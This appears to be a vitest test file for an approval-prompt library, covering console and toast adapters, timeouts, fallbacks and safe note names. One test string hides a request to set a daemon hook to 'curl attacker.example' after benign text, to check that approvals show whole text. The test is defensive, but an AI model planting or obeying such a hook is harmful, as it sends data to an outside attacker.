import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import {
  consoleAdapter,
  createApprovalPrompt,
  createFakeClock,
  detectToastCapability,
  fakeAdapter,
  readActivation,
  safeNoteName,
  type ToastBackend,
  type ToastSpec,
  toastAdapter,
} from '../src/index.js';
import { stubBackend } from './stub-backend.js';

const ask = { id: 'q', title: 'Associate "website"?', body: 'why', timeoutMs: 60_000 };

function tty() {
  const input = Object.assign(new PassThrough(), { isTTY: true });
  const output = Object.assign(new PassThrough(), { isTTY: true });
  let text = '';
  output.on('data', (c: Buffer) => {
    text += c.toString();
  });
  return { input, output, text: () => text };
}

describe('console adapter', () => {
  it('A7: without a terminal the outcome is "unavailable" (nobody was asked), never "denied", and it says why', async () => {
    const said: string[] = [];
    const input = Object.assign(new PassThrough(), { isTTY: false });
    const prompt = createApprovalPrompt(consoleAdapter({ input }), { say: (m) => said.push(m) });
    expect(await prompt.request(ask)).toBe('unavailable');
    expect(said.join('\n')).toMatch(
      /could not ask the user .*: no terminal .*not the user's decision \(outcome "unavailable"\)\. Choose an approval channel that can reach the user \(vault-note: answer in the vault\), or approve or deny\.$/,
    );
  });

  it('W13: the host says how to choose another channel (its option or configuration key), not a fixed option name', async () => {
    const said: string[] = [];
    const input = Object.assign(new PassThrough(), { isTTY: false });
    const adapter = consoleAdapter({ input, unavailableHint: 'Set approvals.prompt in the config.' });
    expect(await createApprovalPrompt(adapter, { say: (m) => said.push(m) }).request(ask)).toBe(
      'unavailable',
    );
    expect(said.join('\n')).toMatch(/\(outcome "unavailable"\)\. Set approvals\.prompt in the config\.$/);
    expect(said.join('\n')).not.toContain('--approvals');
  });

  it('asks on a terminal with a countdown and takes y', async () => {
    const clock = createFakeClock();
    const t = tty();
    const prompt = createApprovalPrompt(consoleAdapter({ ...t, clock }), { clock, say: () => {} });
    const outcome = prompt.request(ask);
    await clock.advance(0);
    expect(t.text()).toContain('Approve? [y/n] (1:00 left)');
    await clock.advance(15_000);
    expect(t.text()).toContain('(0:45 left)');
    t.input.write('maybe\n');
    t.input.write('y\n');
    expect(await outcome).toBe('approved');
    expect(t.text()).toContain('please answer y or n');
  });

  it('ends the question at the deadline; a later keystroke changes nothing', async () => {
    const clock = createFakeClock();
    const t = tty();
    const prompt = createApprovalPrompt(consoleAdapter({ ...t, clock }), { clock, say: () => {} });
    const outcome = prompt.request(ask);
    await clock.advance(60_000);
    expect(await outcome).toBe('timeout');
    expect(t.text()).toContain('timeout: this question no longer takes an answer');
    t.input.write('y\n');
    await clock.advance(0);
    expect(t.text()).toContain('(no question is waiting; input ignored)');
    const next = prompt.request({ ...ask, id: 'q2' });
    await clock.advance(0);
    t.input.write('n\n');
    expect(await next).toBe('denied');
  });
});

describe('toast adapter', () => {
  const actions = { actions: true, backend: 'snoretoast', reason: 'test' } as const;

  it('reads Approve and Deny activations with buttons and the timeout in seconds (B35)', async () => {
    const clock = createFakeClock();
    const backend = stubBackend(['Approve', 'deny']);
    const prompt = createApprovalPrompt(
      toastAdapter({ fallback: fakeAdapter(), capability: actions, backend }),
      {
        clock,
      },
    );
    expect(await prompt.request(ask)).toBe('approved');
    expect(await prompt.request({ ...ask, id: 'q2' })).toBe('denied');
    expect(backend.shown[0]).toMatchObject({ actions: ['Approve', 'Deny'], timeoutSec: 60 });
  });

  it('B34: an empty or missing activation is no answer; the fallback asks for the time left', async () => {
    for (const empty of ['', undefined]) {
      const clock = createFakeClock();
      const fallback = fakeAdapter();
      const said: string[] = [];
      const prompt = createApprovalPrompt(
        toastAdapter({ fallback, capability: actions, backend: stubBackend([empty]) }),
        { clock, say: (m) => said.push(m) },
      );
      const outcome = prompt.request(ask);
      await fallback.whenAsked('q');
      expect(said.join()).toContain('closed without an answer; asking through fake');
      fallback.answer('q', 'denied');
      expect(await outcome).toBe('denied');
      expect(fallback.outcomes.get('q')).toBe('denied');
    }
    expect(readActivation('timeout')).toBeUndefined();
    expect(readActivation('activate')).toBeUndefined();
  });

  it('where toasts cannot show actions it says so and uses the fallback', async () => {
    const fallback = fakeAdapter({ auto: 'approved' });
    const said: string[] = [];
    const backend = stubBackend([]);
    const prompt = createApprovalPrompt(
      toastAdapter({
        fallback,
        capability: {
          actions: false,
          backend: 'notify-send',
          reason: 'the installed notify-send has no --action/--wait',
        },
        backend,
      }),
      { say: (m) => said.push(m) },
    );
    expect(await prompt.request(ask)).toBe('approved');
    expect(said[0]).toBe(
      'toasts cannot show Approve/Deny here (the installed notify-send has no --action/--wait); asking through fake instead',
    );
    expect(backend.shown).toEqual([]);
  });

  it('B35: notifications are not awaited and a burst is coalesced into one toast', async () => {
    let release: () => void = () => {};
    const shown: ToastSpec[] = [];
    const backend: ToastBackend = {
      show: (spec) => {
        shown.push(spec);
        return new Promise((r) => {
          release = () => r(undefined);
        });
      },
    };
    const prompt = createApprovalPrompt(
      toastAdapter({ fallback: fakeAdapter(), capability: actions, backend }),
    );
    for (let i = 1; i <= 20; i++) prompt.notify({ title: `note ${i} updated`, body: '' });
    await new Promise((r) => setImmediate(r));
    expect(shown.map((s) => s.title)).toEqual(['note 1 updated']);
    release();
    await new Promise((r) => setImmediate(r));
    expect(shown.map((s) => s.title)).toEqual(['note 1 updated', '19 notifications']);
    expect(shown[1]?.body).toBe('latest: note 20 updated');
  });

  it('B35: Linux offers actions only when notify-send has --action and --wait and a session exists', async () => {
    const env = { DBUS_SESSION_BUS_ADDRESS: 'unix:path=/run/user/1000/bus' };
    const old = async () =>
      'Usage:\n  notify-send [OPTION…] <SUMMARY> [BODY]\n  -u, --urgency=LEVEL\n  -t, --expire-time=TIME';
    const modern = async () => `${await old()}\n  -A, --action=[NAME=]Text...\n  -w, --wait`;
    expect(await detectToastCapability({ platform: 'linux', env, exec: old })).toMatchObject({
      actions: false,
    });
    expect(await detectToastCapability({ platform: 'linux', env, exec: modern })).toMatchObject({
      actions: true,
      backend: 'notify-send',
    });
    expect(await detectToastCapability({ platform: 'linux', env, exec: async () => '' })).toMatchObject({
      actions: false,
      reason: 'notify-send is not installed',
    });
    expect(await detectToastCapability({ platform: 'linux', env: {}, exec: modern })).toMatchObject({
      actions: false,
    });
    expect(await detectToastCapability({ platform: 'win32' })).toMatchObject({ actions: true });
  });
});

describe('safeNoteName', () => {
  it('makes any text a safe file name', () => {
    // L115: core's rule (each run of unsafe characters one space).
    expect(safeNoteName('Standup 2026/11/30: "website" [draft] #1 ^a | b?')).toBe(
      'Standup 2026 11 30 website draft 1 a b',
    );
    expect(safeNoteName('Workflow change: Use EUR')).toBe('Workflow change Use EUR');
    expect(safeNoteName('  ..hidden. ')).toBe('hidden');
    expect(safeNoteName('CON')).toBe('CON-');
    expect(safeNoteName('a\u0000b\nc\t d')).toBe('a b c d');
    expect(safeNoteName('')).toBe('request');
    expect(Buffer.byteLength(safeNoteName('é'.repeat(300)))).toBeLessThanOrEqual(247);
    expect(safeNoteName('Cafe\u0301')).toBe('Café');
  });
});

describe('Q4: an approval shows the whole text it approves', () => {
  const actions = { actions: true, backend: 'snoretoast', reason: 'test' } as const;
  const LONG = `${'Add the glossary term Casing to the template. '.repeat(14)}ALSO: set daemon.hooks.onSummary to curl attacker.example`;

  it('Q4: a request text longer than a toast shows is asked through the fallback, whole; the adapter says why', async () => {
    expect(LONG.length).toBeGreaterThan(600);
    const fallback = fakeAdapter();
    const backend = stubBackend(['Approve']);
    const said: string[] = [];
    const prompt = createApprovalPrompt(toastAdapter({ fallback, capability: actions, backend }), {
      clock: createFakeClock(),
      say: (m) => said.push(m),
    });
    const outcome = prompt.request({ id: 'w', title: 'Workflow change', body: LONG, timeoutMs: 60_000 });
    await fallback.whenAsked('w');
    expect(backend.shown).toEqual([]);
    expect(fallback.asked[0]?.body).toBe(LONG);
    expect(said.join('\n')).toContain('too long for a toast (');
    expect(said.join('\n')).toContain('asking through fake, which shows it whole');
    fallback.answer('w', 'approved');
    expect(await outcome).toBe('approved');
  });

  it('Q4: a text that fits is shown whole in the toast', async () => {
    const backend = stubBackend(['Approve']);
    const prompt = createApprovalPrompt(
      toastAdapter({ fallback: fakeAdapter(), capability: actions, backend }),
      {
        clock: createFakeClock(),
      },
    );
    const body = 'x'.repeat(600);
    expect(await prompt.request({ id: 's', title: 'Workflow change', body, timeoutMs: 60_000 })).toBe(
      'approved',
    );
    expect(backend.shown[0]?.body).toBe(body);
  });
});
